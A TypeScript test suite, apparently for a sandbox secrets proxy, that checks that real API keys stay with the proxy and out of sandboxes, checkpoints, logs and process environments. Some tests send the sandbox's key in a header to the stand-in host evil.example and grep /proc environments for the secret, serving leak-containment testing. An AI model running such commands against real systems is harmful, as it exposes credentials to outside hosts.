import assert from 'node:assert/strict';
import { execFile, execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { after, test } from 'node:test';
import { Sandbox } from '@declaw/sdk';
import { filesWith, processesOf } from '../harness/machine.ts';
import { output } from '../harness/sandbox.ts';
import { repository } from '../harness/server.ts';
import { control } from '../harness/superserve.ts';
import { serverWithUpstream } from '../harness/upstream.ts';

// Where a real credential must never be, and who trusts the sandbox's authority without being told.

const { server, arrived } = await serverWithUpstream(['api.trust-test.example', 'api.weather.example', 'evil.example'], { PADDOCK_KEPT_MEMORY: '0' });
const value = `real-${randomBytes(16).toString('hex')}`;
const url = 'https://api.trust-test.example/v1';

const runFile = promisify(execFile); // not Sync: what it asks for is served by this process

async function withSecret(template: string): Promise<Sandbox> {
  await control(server, 'POST', '/secrets', { json: { name: 'KEY', value, auth: { type: 'bearer' }, hosts: ['api.trust-test.example'] } }); // or it is there
  const { status, json } = await control(server, 'POST', '/sandboxes', { json: { name: 'trust', from_template: template, secrets: { KEY: 'KEY' } } });
  assert.equal(status, 201, JSON.stringify(json));
  return Sandbox.connect(json.id);
}

const clients: readonly [name: string, template: string, command: string][] = [
  ['curl', 'base', `curl -sS -m 20 -H "Authorization: Bearer $KEY" ${url}`],
  ['curl without variables, by the system’s bundle', 'base', `env -i KEY=$KEY /usr/bin/curl -sS -m 20 -H "Authorization: Bearer $KEY" ${url}`],
  ['python’s urllib', 'python', `python3 -c 'import os,urllib.request as r; print(r.urlopen(r.Request("${url}", headers={"Authorization":"Bearer "+os.environ["KEY"]}), timeout=20).read().decode())'`],
  ['python by the directory of links', 'python', `python3 -c 'import os,ssl,urllib.request as r; c=ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT); c.load_verify_locations(capath="/etc/ssl/certs"); print(r.urlopen(r.Request("${url}", headers={"Authorization":"Bearer "+os.environ["KEY"]}), timeout=20, context=c).read().decode())'`],
  ['python’s requests, which brings authorities of its own', 'superserve/python-3.11', `python3 -c 'import os,requests; print(requests.get("${url}", headers={"Authorization":"Bearer "+os.environ["KEY"]}, timeout=20).text)'`],
  ['node', 'node', `node -e 'fetch("${url}",{headers:{authorization:"Bearer "+process.env.KEY}}).then(r=>r.text()).then(console.log)'`],
  ['root by sudo', 'base', `sudo -E curl -sS -m 20 -H "Authorization: Bearer $KEY" ${url}`],
];

for (const [name, template, command] of clients) {
  test(`${name} verifies an opened connection without being told of the authority`, async () => {
    const sandbox = await withSecret(template);
    try {
      arrived();
      const said = await output(sandbox, command, { timeout: 60 });
      assert.deepEqual(arrived().map(({ headers }) => headers.authorization), [`Bearer ${value}`], said);
      assert.ok(!said.includes(value));
    } finally {
      await sandbox.kill({ wait: true });
    }
  });
}

test('git and a program in Go trust it too', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'paddock-go-'));
  after(() => rmSync(dir, { recursive: true }));
  writeFileSync(join(dir, 'main.go'), `package main
import ("fmt"; "io"; "net/http"; "os")
func main() {
	request, _ := http.NewRequest("GET", "${url}", nil)
	request.Header.Set("Authorization", "Bearer "+os.Getenv("KEY"))
	response, err := http.DefaultClient.Do(request)
	if err != nil { fmt.Println(err); os.Exit(1) }
	body, _ := io.ReadAll(response.Body)
	fmt.Println(response.StatusCode, len(body) > 0)
}
`);
  execFileSync('go', ['build', '-o', join(dir, 'get'), join(dir, 'main.go')], { cwd: dir, env: { ...process.env, CGO_ENABLED: '0', GO111MODULE: 'off', GOCACHE: join(dir, 'cache') } });
  const sandbox = await withSecret('base');
  await sandbox.files.write('/tmp/get', readFileSync(join(dir, 'get')));
  assert.equal(await output(sandbox, 'chmod +x /tmp/get && /tmp/get'), '200 true\n');
  assert.equal(await output(sandbox, 'env -u SSL_CERT_FILE /tmp/get'), '200 true\n');
  arrived();
  await output(sandbox, `git -c http.extraHeader="Authorization: Bearer $KEY" ls-remote ${url}/repo`, { timeout: 60 });
  assert.deepEqual(arrived().map(({ url, headers }) => [url, headers.authorization])[0], ['/v1/repo/info/refs?service=git-upload-pack', `Bearer ${value}`]);
  // What the distribution rebuilds keeps it.
  await output(sandbox, 'update-ca-certificates --fresh', { user: 'root', timeout: 120 });
  arrived();
  await output(sandbox, `curl -sS -m 20 -H "Authorization: Bearer $KEY" ${url}`);
  assert.equal(arrived().length, 1);
  await sandbox.kill({ wait: true });
});

test('a program that ran before its sandbox got the first secret trusts the authority, and forks do', async () => {
  await control(server, 'POST', '/secrets', { json: { name: 'KEY', value, auth: { type: 'bearer' }, hosts: ['api.trust-test.example'] } });
  const { json } = await control(server, 'POST', '/sandboxes', { json: { name: 'early', from_template: 'node' } });
  const sandbox = await Sandbox.connect(json.id);
  await sandbox.files.write('/tmp/late.mjs', `import { existsSync, readFileSync, writeFileSync } from 'node:fs';
await fetch('https://evil.example/').catch(() => {}); // its certificates are loaded now
for (;;) {
  if (existsSync('/tmp/key')) {
    const answer = await fetch('${url}', { headers: { authorization: 'Bearer ' + readFileSync('/tmp/key', 'utf8').trim() } }).then((r) => String(r.status), (e) => String(e.cause));
    writeFileSync('/tmp/answer', answer);
    break;
  }
  await new Promise((r) => setTimeout(r, 50));
}`);
  await sandbox.commands.run('node /tmp/late.mjs', { background: true });
  await control(server, 'POST', `/sandboxes/${json.id}/secrets`, { json: { env_key: 'LATE', secret_name: 'KEY' } });
  await output(sandbox, 'echo $LATE > /tmp/key');
  assert.equal(await output(sandbox, 'for i in $(seq 200); do [ -s /tmp/answer ] && break; sleep 0.1; done; cat /tmp/answer', { timeout: 60 }), '200');
  const { json: forked } = await server.call('POST', `/sandboxes/${sandbox.sandboxId}/fork`, { json: { count: 1 } });
  const fork = await Sandbox.connect(forked.sandboxes[0].sandbox_id);
  assert.equal(await output(fork, 'cat /usr/local/share/ca-certificates/paddock.crt'), await output(sandbox, 'cat /usr/local/share/ca-certificates/paddock.crt'));
  assert.equal(await output(fork, 'grep -c "Paddock: the authority" /etc/ssl/certs/ca-certificates.crt'), '1\n');
  for (const each of [fork, sandbox]) await each.kill({ wait: true });
});

test('the example of the page on secrets does what the page says', async () => {
  const [, program = ''] = /```js\n(.*?)```/s.exec(readFileSync(join(repository, 'docs/secrets.md'), 'utf8')) ?? [];
  arrived();
  const { stdout: said } = await runFile(process.execPath, ['--input-type=module', '--eval', program], { cwd: repository, encoding: 'utf8', timeout: 60_000, env: { PATH: process.env['PATH'], WEATHER_KEY: value, DECLAW_DOMAIN: `127.0.0.1:${server.port}`, DECLAW_API_KEY: server.apiKey } });
  assert.match(said, /^declaw:vault-managed\n/);
  assert.deepEqual(arrived().map(({ url, headers }) => [url, headers['x-api-key']]), [['/today', value]]);
  assert.ok(!said.includes(value));
});

test('the real value and the authority’s key are nowhere but with the proxy: not in the sandbox, its memory on disk, its files, any log, the database, any command line or answer', async () => {
  const sandbox = await withSecret('base');
  const standIn = await output(sandbox, 'printf %s "$KEY"');
  for (let i = 0; i < 3; i++) await output(sandbox, `curl -sS -m 20 -H "Authorization: Bearer $KEY" ${url}`);
  await sandbox.commands.run(`curl -sS -m 20 -H "Authorization: Bearer $KEY" https://evil.example/`);
  const answers = [
    (await server.call('GET', '/sandboxes')).text, (await server.call('GET', `/sandboxes/${sandbox.sandboxId}/audit`)).text, (await server.call('GET', `/sandboxes/${sandbox.sandboxId}/network`)).text, (await control(server, 'GET', '/secrets')).text,
    (await control(server, 'GET', '/secrets/KEY/audit')).text, (await control(server, 'GET', '/activity')).text,
  ];
  for (const answer of answers) assert.ok(!answer.includes(value));
  await sandbox.pause();
  const certificateKey = 'BEGIN PRIVATE KEY';
  // The checkpoint has the sandbox's whole memory, uncompressed: what is there is found.
  assert.ok((await filesHolding(standIn)).some((file) => file.includes('checkpoints')));
  for (const text of [value, Buffer.from(value).toString('base64').replace(/=+$/, ''), Buffer.from(value, 'latin1').toString('utf16le')]) assert.deepEqual(await filesHolding(text), []);
  assert.deepEqual(await filesHolding(certificateKey), []);
  assert.ok(!server.log.includes(value));
  for (const { pid, command } of processesOf(server.dataDir)) {
    assert.ok(!command.includes(value));
    assert.ok(!environmentOf(pid).includes(value), `the environment of ${command}`);
  }
  await sandbox.resume();
  // Last, since the search itself is in its memory.
  assert.equal((await sandbox.commands.run(`grep -rIl "${value}" /etc /home /tmp /run /var /root 2>/dev/null; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | grep -ac "${value}"`, { user: 'root', timeout: 60 })).stdout.trim(), '1'); // the search itself
  await sandbox.kill({ wait: true });
});

test('the operator gives the server another master key, and sandboxes that run notice nothing', async () => {
  const sandbox = await withSecret('base');
  const running = await server.paddock(['secrets', 'rotate-key']);
  assert.deepEqual([running.code, /is using the data directory/.test(running.stderr)], [1, true]);
  await server.stop();
  const before = readFileSync(join(server.dataDir, 'master.key'), 'utf8');
  const { code, stdout } = await server.paddock(['secrets', 'rotate-key']);
  assert.equal(code, 0, stdout);
  assert.match(stdout, /values are sealed with the new master key [0-9a-f]{8}, in .*master\.key\./);
  assert.notEqual(readFileSync(join(server.dataDir, 'master.key'), 'utf8'), before);
  await server.start();
  arrived();
  await output(sandbox, `curl -sS -m 20 -H "Authorization: Bearer $KEY" ${url}`);
  assert.deepEqual(arrived().map(({ headers }) => headers.authorization), [`Bearer ${value}`]);
  await sandbox.kill({ wait: true });
  assert.equal((await server.paddock(['secrets'])).code, 1);
});

test('the database and the checkpoints of another server do not open with another master key', async () => {
  const key = join(server.dataDir, 'master.key');
  const right = readFileSync(key, 'utf8');
  await server.stop();
  writeFileSync(key, `${randomBytes(32).toString('hex')}\n`);
  await assert.rejects(server.start(), /the database was sealed with/);
  writeFileSync(key, right);
  await server.start();
  assert.ok(readdirSync(server.dataDir).includes('master.key'));
});

/** Files come and go while the server works. */
async function filesHolding(text: string): Promise<string[]> {
  for (let attempt = 1; ; attempt++) {
    try {
      // The pages of a checkpoint have the name of an image, too.
      const pages = readdirSync(join(server.dataDir, 'checkpoints'), { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile()).map((entry) => join(entry.parentPath, entry.name));
      return [...filesWith(server.dataDir, text), ...pages.filter((file) => readFileSync(file).includes(text))];
    } catch (error) {
      if (attempt === 10) throw error;
      await new Promise((resolve) => setTimeout(resolve, 200));
    }
  }
}

function environmentOf(pid: number): string {
  try {
    return readFileSync(`/proc/${pid}/environ`, 'utf8');
  } catch {
    return ''; // it has ended
  }
}
